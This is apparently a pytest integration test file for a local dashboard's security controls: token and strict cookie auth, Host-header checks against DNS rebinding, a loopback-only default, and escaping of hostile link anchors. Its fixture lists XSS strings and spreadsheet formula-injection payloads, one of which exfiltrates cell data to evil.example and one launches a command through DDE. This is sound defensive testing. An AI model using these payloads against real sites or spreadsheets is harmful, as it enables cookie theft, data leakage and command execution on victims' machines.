"""The dashboard's defences, against a real server on 127.0.0.1.

The token (none, wrong, right then the cookie), the Host check against DNS
rebinding, the refusal to listen beyond loopback without a token, and hostile
anchors from a crafted store: escaped in every page, never a link unless
http(s), neutralised in the CSV download.
"""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING

import pytest
import typer
from tests.integration.conftest import majestic_project
from tests.integration.web_server import client, served
from typer.testing import CliRunner

from linkequity.cli.serve_command import serve_
from linkequity.errors import UsageError
from linkequity.web.security import TOKEN_COOKIE
from linkequity.web.server import dashboard_server

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.loopback

TOKEN = "a-long-test-token-0123456789"  # noqa: S105 - a test token
VICTIM = "victim.example"
HOSTILE_ANCHORS = (
    '<script>alert("anchor")</script>',
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    '" onmouseover="alert(2)',
)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of Majestic rows whose anchors are attacks on a browser or a spreadsheet."""
    db = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    return majestic_project(
        db,
        (
            (f"https://www.{VICTIM}/page-{n}/", f"https://spam-{n}.example/post/{n}", anchor)
            for n, anchor in enumerate(HOSTILE_ANCHORS)
        ),
    )


def test_hostile_anchors_are_text_in_every_page(hostile_db: Path) -> None:
    with served(hostile_db) as base, client(base) as http:
        pages = [
            http.get(f"/t/{VICTIM}/"),
            http.get(f"/t/{VICTIM}/links"),
            http.get(f"/t/{VICTIM}/domain/spam-1.example"),
            http.get(f"/t/{VICTIM}/page", params={"url": "https://spam-2.example/post/2"}),
        ]
        for page in pages:
            assert page.status_code == 200, page.text[:2000]
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            assert 'href="javascript:' not in page.text
            assert '" onmouseover=' not in page.text
            assert len(re.findall(r"<script", page.text)) == 1  # the page's own, with its nonce
        table = pages[1].text
        assert "&lt;script&gt;alert(&#34;anchor&#34;)&lt;/script&gt;" in table
        assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in table
        assert "javascript:alert(document.cookie)" in table
        for url in re.findall(r'<a href="([^"]+)" rel="noopener noreferrer nofollow"', table):
            assert url.startswith(("http://", "https://"))
        download = http.get(f"/t/{VICTIM}/links.csv")
        anchors = {row["anchor"] for row in csv.DictReader(io.StringIO(download.text))}
        assert "'" + HOSTILE_ANCHORS[3] in anchors
        assert "'" + HOSTILE_ANCHORS[4] in anchors
        assert HOSTILE_ANCHORS[0] in anchors
        assert not any(anchor.startswith(("=", "+", "-", "@")) for anchor in anchors)


def test_a_token_is_needed_then_kept_in_a_strict_http_only_cookie(web_db: Path) -> None:
    with served(web_db, token=TOKEN) as base, client(base) as http:
        assert http.get("/").status_code == 401
        assert http.get("/", params={"token": "wrong"}).status_code == 403
        assert http.get("/", headers={"cookie": f"{TOKEN_COOKIE}=wrong"}).status_code == 403
        assert http.get("/", params={"token": TOKEN[:-1]}).status_code == 403
        signed = http.get("/t/x.example/links", params={"token": TOKEN, "rel": "followed"})
        assert signed.status_code == 303
        assert signed.headers["location"] == "/t/x.example/links?rel=followed"
        cookie = signed.headers["set-cookie"]
        assert cookie.startswith(f"{TOKEN_COOKIE}={TOKEN};")
        assert "HttpOnly" in cookie
        assert "SameSite=Strict" in cookie
        assert http.get("/", headers={"cookie": f"{TOKEN_COOKIE}={TOKEN}"}).status_code == 200
        home = http.get(f"{base}//evil.example/?token={TOKEN}")
        assert home.headers["location"] == "/evil.example/"


def test_the_host_header_must_name_loopback(web_db: Path) -> None:
    with served(web_db) as base, client(base) as http:
        port = base.rsplit(":", 1)[1]
        assert http.get("/").status_code == 200
        assert http.get("/", headers={"host": f"localhost:{port}"}).status_code == 200
        assert http.get("/", headers={"host": f"[::1]:{port}"}).status_code == 200
        rebound = http.get("/", headers={"host": f"attacker.example:{port}"})
        assert rebound.status_code == 400
        assert rebound.headers["x-frame-options"] == "DENY"
        assert http.get("/", headers={"host": "127.0.0.1.attacker.example"}).status_code == 400


def test_no_other_address_without_a_token(web_db: Path) -> None:
    with pytest.raises(UsageError, match="without a token"):
        dashboard_server(web_db, host="0.0.0.0", port=0, token=None)  # noqa: S104 - refused
    with pytest.raises(UsageError, match="shorter than 16"):
        dashboard_server(web_db, host="0.0.0.0", port=0, token="short")  # noqa: S104, S106 - refused
    app = typer.Typer()
    app.command("serve")(serve_)
    result = CliRunner().invoke(app, ["--db", str(web_db), "--host", "192.0.2.1", "--port", "0"])
    assert isinstance(result.exception, UsageError)
    assert "without a token" in str(result.exception)
